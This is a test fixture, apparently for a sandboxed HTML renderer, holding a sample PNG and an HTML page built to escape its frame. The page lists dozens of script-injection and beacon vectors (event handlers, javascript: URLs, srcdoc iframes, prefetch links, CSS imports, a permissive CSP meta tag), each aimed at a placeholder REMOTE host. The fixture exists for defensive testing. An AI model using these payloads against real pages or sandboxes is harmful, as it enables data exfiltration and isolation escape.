// Sample reports: a small PNG, and an HTML page that tries to escape from its sandboxed frame.

/** A PNG as the fake service draws it. */
export const PICTURE = [
  'iVBORw0KGgoAAAANSUhEUgAAALgAAACACAIAAAA3eDRQAAABrElEQVR4nO3bsXHDMBAAQfbjwLGrch+KXYPqUCVuxW5AwQXAPCntzhdA8C8Ejj',
  '8IjukP4BqEQiIUEqGQCIVEKCRCIREKiVBIhEIiFJIUyuPr43Kz/9e9F6GQCIVEKCRCIREKiVBIhEIiFBKhkAiFRCgkQiERColQSIRCIhQSoZAI',
  'hUQoJEIhEQqJUEiEQuIBGIlQSIRCIhQSoZAIhUQoJEIhEQqJUEiEQiIUEqGQCIVEKCRCIXFxiUQoJEIhEQqJUEiEQiIUEqGQCIVEKCRCIREKiV',
  'BIhEIiFBKhkAiFRCgkQiERColQSIRCIhQSoZB4AEYiFBKhkAiFRCgkQiERColQSIRCIhQSoZAIhUQoJEIhEQqJUEhSKJ/fv5eb/b/uufEbW5su',
  'eQllsfGtC0UoQhGKUIRy/innEspi41sXilCEIhShCOX8U84llMXGty4UoQhlw9x+7iMzvnWhCEUoG6aca4fxrQtFKEIRilCEcv4p5xLKYuNbF4',
  'pQhCIUoQjl/FPOJZTFxrcuFKEIRSivEQoIhUQoJEIhEQqJUEiEQiIUEqGQCIVEKCRCIfkHPD70ZygVoY0AAAAASUVORK5CYII=',
].join('');

/** Code of each payload. `REMOTE` stands for the server that must receive nothing. */
const RUNS = "top.pwned=parent.pwned=window.pwned=1;fetch('REMOTE/fetch');new Image().src='REMOTE/image'";

/** Scripts, links, pictures, frames, forms, styles and hints, each with `REMOTE` as the target. */
export const HARMFUL_PAGE = `<!doctype html><html><head><title>Risk flow</title>
<base href="REMOTE/">
<link rel="preconnect" href="REMOTE"><link rel="dns-prefetch" href="REMOTE"><link rel=prefetch href="REMOTE/prefetch">
<link rel="preload" as="image" href="REMOTE/preload"><link rel="stylesheet" href="REMOTE/style.css"><LINK/rel=icon href="REMOTE/icon">
<link rel="modulepreload" href="REMOTE/module.js"><link rel="prerender" href="REMOTE/prerender"><link rel="manifest" href="REMOTE/manifest">
<meta http-equiv="refresh" content="0;url=REMOTE/refresh"><meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Link" content="<REMOTE>; rel=preconnect"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<style>@import url(REMOTE/import.css); body { background: url(REMOTE/background) } @font-face { font-family: x; src: url(REMOTE/font) } p { font-family: x }</style>
<script>${RUNS}</script><script src="REMOTE/script.js"></script><script type="module">${RUNS}</script>
<script type="speculationrules">{"prefetch":[{"urls":["REMOTE/speculation"]}]}</script>
</head><body onload="${RUNS}">
<h1 id="seen">0x93df...f704</h1><p style="background:url(REMOTE/inline)">text</p>
<img src="REMOTE/img" srcset="REMOTE/srcset 2x" onerror="${RUNS}"><picture><source srcset="REMOTE/source"><img src="REMOTE/picture"></picture>
<svg><image href="REMOTE/svg-image"/><use href="REMOTE/use#a"/><script>${RUNS}</script><animate onbegin="${RUNS}" attributeName="x"/></svg>
<video src="REMOTE/video" poster="REMOTE/poster" autoplay></video><audio src="REMOTE/audio" autoplay></audio><track src="REMOTE/track">
<iframe src="REMOTE/frame"></iframe><iframe srcdoc="<script>${RUNS}</script><img src=REMOTE/srcdoc>"></iframe><iframe src="javascript:${RUNS}"></iframe>
<object data="REMOTE/object"></object><embed src="REMOTE/embed"><form action="REMOTE/form"><button id="send">send</button><input autofocus onfocus="${RUNS}"></form>
<a id="leave" href="REMOTE/link" ping="REMOTE/ping">leave</a> <a id="out" href="REMOTE/blank" target="_blank">out</a> <a id="top" href="REMOTE/top" target="_top">top</a>
<a id="run" href="javascript:${RUNS}">run</a><details open ontoggle="${RUNS}"><summary>more</summary></details>
<table background="REMOTE/table"><tr><td>0x202f</td></tr></table><input type="image" src="REMOTE/input">
</body></html>`;
